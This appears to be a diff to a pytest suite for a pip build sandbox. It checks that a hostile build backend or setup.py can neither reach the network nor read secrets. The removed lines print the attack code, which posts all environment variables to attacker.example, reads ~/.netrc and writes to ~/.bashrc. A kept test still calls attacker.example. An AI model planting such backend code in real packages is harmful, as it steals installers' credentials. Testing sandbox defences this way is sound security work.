@@ -4,15 +4,22 @@ from __future__ import annotations
 
 import json
 import subprocess
-import threading
 import zipfile
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, Any
 
 import pytest
 
 from support.builders import LEGACY, make_sdist, make_tree
 from support.held import OLD
+from support.hostile_builds import (
+    LET_THROUGH,
+    PASSWORD,
+    PYPROJECT,
+    SECRETS,
+    Sink,
+    attack_code,
+    backend_files,
+)
 
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterator
@@ -21,90 +28,20 @@ if TYPE_CHECKING:
     from support.envs import Env, Pair
     from support.index_server import IndexServer
 
-LET_THROUGH = '[decisions]\nhigh = "warn"\nmedium = "allow"\n'
-"""What reading the code would have held is let through, so that the sandbox is all there is."""
-SECRETS = {
-    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
-    "GITHUB_TOKEN": "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
-    "PLAIN_LOOKING": "https://user:hunter2hunter2@example.org/",
-}
-
-# Tries everything, keeps what came of it in a file of the source tree, which becomes part of the wheel.
-ATTACK = """
-import json, os, socket, sys, urllib.request
-
-def attack(here, port, outside, secret):
-    done = {"environ": dict(os.environ), "did": [], "argv": sys.argv, "cwd": os.getcwd()}
-    def attempt(name, action):
-        try:
-            action()
-            done["did"].append(name)
-        except Exception as error:
-            done[name] = repr(error)
-    body = json.dumps(dict(os.environ)).encode()
-    def post(url):
-        urllib.request.urlopen(url, body, 5).read()
-    attempt("post", lambda: post("http://127.0.0.1:%d/" % port))
-    attempt("post by name", lambda: post("http://localhost:%d/" % port))
-    attempt("post elsewhere", lambda: post("http://attacker.example/collect"))
-    def write(path):
-        with open(path, "a") as file:
-            file.write("evil")
-    for path in outside:
-        attempt("write " + path, lambda: write(path))
-    attempt("read", lambda: done.update(secret=open(secret).read()))
-    attempt("home", lambda: write(os.path.expanduser("~/.bashrc")))
-    path = os.path.join(here, "seen.json")
-    if not os.path.exists(path):
-        open(path, "w").write("[]")
-    seen = json.load(open(path))
-    with open(path, "w") as file:
-        json.dump([*seen, done], file)
-"""
-
-
-class Sink:
-    """A server outside that waits for what is stolen."""
-
-    def __init__(self) -> None:
-        self.received: list[bytes] = []
-        sink = self
-
-        class Handler(BaseHTTPRequestHandler):
-            def do_POST(self) -> None:
-                sink.received.append(self.rfile.read(int(self.headers["Content-Length"])))
-                self.send_response(200)
-                self.end_headers()
-
-            def log_message(self, *args: object) -> None:
-                pass
-
-        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.port = self.server.server_address[1]
-
 
 @pytest.fixture
 def sink() -> Iterator[Sink]:
     made = Sink()
-    thread = threading.Thread(target=made.server.serve_forever)
-    thread.start()
     yield made
-    made.server.shutdown()
-    thread.join()
-    made.server.server_close()
+    made.close()
 
 
-def hostile_files(sink: Sink, outside: list[Path], secret: Path) -> dict[str, str]:
-    """A PEP 517 backend that attacks when it is loaded, and then builds."""
-    call = f"attack(os.path.dirname(os.path.abspath(__file__)), {sink.port}, {[str(p) for p in outside]!r}, {str(secret)!r})\n"
-    return {
-        "evil_backend.py": ATTACK + call + "from _test_backend import *\n",
-        "demo.py": "VERSION = '1.0'\n",
-        "seen.json": "[]",
-    }
-
-
-EVIL_PYPROJECT = '[build-system]\nrequires = []\nbuild-backend = "evil_backend"\nbackend-path = ["."]\n'
+def assert_learned_nothing(done: dict[str, Any]) -> None:
+    """Assert that one attempt came to nothing; writing into a place of its own is no harm."""
+    assert [name for name in done["did"] if not name.startswith("write")] == [], done
+    assert "secret" not in done
+    assert not set(SECRETS) & set(done["environ"]), done
+    assert not [value for value in done["environ"].values() if PASSWORD in value]
 
 
 def test_a_hostile_backend_reaches_nothing_and_learns_nothing(
@@ -114,8 +51,8 @@ def test_a_hostile_backend_reaches_nothing_and_learns_nothing(
     secret = shared.home.path / ".netrc"
     secret.write_text("machine example.org login me password hunter2\n")
     outside = [tmp_path / "outside", shared.home.path / ".profile", shared.home.tmp / "planted"]
-    files = hostile_files(sink, outside, secret)
-    index.add(make_sdist(tmp_path, "demo", "1.0", pyproject=EVIL_PYPROJECT, files=files), upload_time=OLD)
+    files = backend_files(sink, outside, secret)
+    index.add(make_sdist(tmp_path, "demo", "1.0", pyproject=PYPROJECT, files=files), upload_time=OLD)
     result = shared.run_pip(
         "install",
         "-t",
@@ -131,11 +68,7 @@ def test_a_hostile_backend_reaches_nothing_and_learns_nothing(
     seen = json.loads((target / "seen.json").read_text())
     assert len(seen) >= 2, "the backend is loaded for its requirements, the metadata and the wheel"
     for done in seen:
-        # Writing into a place of its own is no harm: what counts is what is there outside.
-        assert [name for name in done["did"] if not name.startswith(("write", "home"))] == [], done
-        assert "secret" not in done
-        assert not set(SECRETS) & set(done["environ"]), done
-        assert not [value for value in done["environ"].values() if "hunter2" in value]
+        assert_learned_nothing(done)
     line = "veln-hook: the build of demo 1.0 tried to reach attacker.example"
     assert result.out.count(line) == 1, result
     assert 'allow it with sandbox.allow_hosts = ["attacker.example"] in the policy' in result.out
@@ -168,8 +101,8 @@ def test_what_a_build_requirement_tried_is_told(
 ) -> None:
     index.html_for_pip22 = True
     code = "import urllib.request\ntry:\n    urllib.request.urlopen('http://attacker.example/', timeout=5)\nexcept OSError:\n    pass\n"
-    files = {"evil_backend.py": code + "from _test_backend import *\n"}
-    index.add(make_sdist(tmp_path, "helper", "1.0", pyproject=EVIL_PYPROJECT, files=files), upload_time=OLD)
+    files = {"hostile.py": code + "from _test_backend import *\n"}
+    index.add(make_sdist(tmp_path, "helper", "1.0", pyproject=PYPROJECT, files=files), upload_time=OLD)
     index.add(make_sdist(tmp_path, "demo", "1.0", build_requires=["helper"]), upload_time=OLD)
     result = shared.run_pip("install", "-q", "-t", str(target), "demo", index=index, policy=LET_THROUGH)
     assert result.returncode == 0, result
@@ -208,8 +141,8 @@ def test_a_build_in_a_subdirectory_of_the_users_repository_asks_git(
         tmp_path / "repository",
         "demo",
         "1.0",
-        pyproject=EVIL_PYPROJECT,
-        files={"evil_backend.py": ASKS_GIT, "demo.py": ""},
+        pyproject=PYPROJECT,
+        files={"hostile.py": ASKS_GIT, "demo.py": ""},
     )
     _git(tree.parent, "init", "-q")
     _git(tree.parent, "add", ".")
@@ -224,8 +157,8 @@ def test_a_checkout_is_built_where_it_is(shared: Env, tmp_path: Path, target: Pa
         tmp_path / "repository",
         "demo",
         "1.0",
-        pyproject=EVIL_PYPROJECT,
-        files={"evil_backend.py": ASKS_GIT, "demo.py": ""},
+        pyproject=PYPROJECT,
+        files={"hostile.py": ASKS_GIT, "demo.py": ""},
     )
     _git(tree.parent, "init", "-q")
     _git(tree.parent, "add", ".")
@@ -300,13 +233,12 @@ def test_a_hostile_setup_py_reaches_nothing_and_learns_nothing(
     secret = env.home.path / ".netrc"
     secret.write_text("machine example.org login me password hunter2\n")
     outside = [tmp_path / "outside", env.home.path / ".profile"]
-    files = hostile_files(sink, outside, secret)
-    setup_py = files.pop("evil_backend.py").replace("from _test_backend import *", LEGACY)
+    setup_py = attack_code(sink, outside, secret) + LEGACY
+    # Not into site-packages: what it saw is in what it prints.
     setup_py += (
         "print('SEEN', open(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'seen.json')).read())\n"
     )
-    files.pop("seen.json")
-    index.add(make_sdist(tmp_path, "demo", "1.0", setup_py=setup_py, files=files), upload_time=OLD)
+    index.add(make_sdist(tmp_path, "demo", "1.0", setup_py=setup_py), upload_time=OLD)
     command = ["install", "-v", "--no-build-isolation", "--no-binary", ":all:", "demo"]
     result = env.run_pip(*command, index=index, policy=LET_THROUGH, env=SECRETS)
     assert result.returncode == 0, result
@@ -314,7 +246,7 @@ def test_a_hostile_setup_py_reaches_nothing_and_learns_nothing(
     assert sink.received == []
     assert not [path for path in outside if path.exists()]
     assert "SEEN [" in result.out
-    assert "hunter2" not in result.out
+    assert PASSWORD not in result.out
     for value in SECRETS.values():
         assert value not in result.out
     assert "veln-hook: the build of demo 1.0 tried to reach attacker.example" in result.out
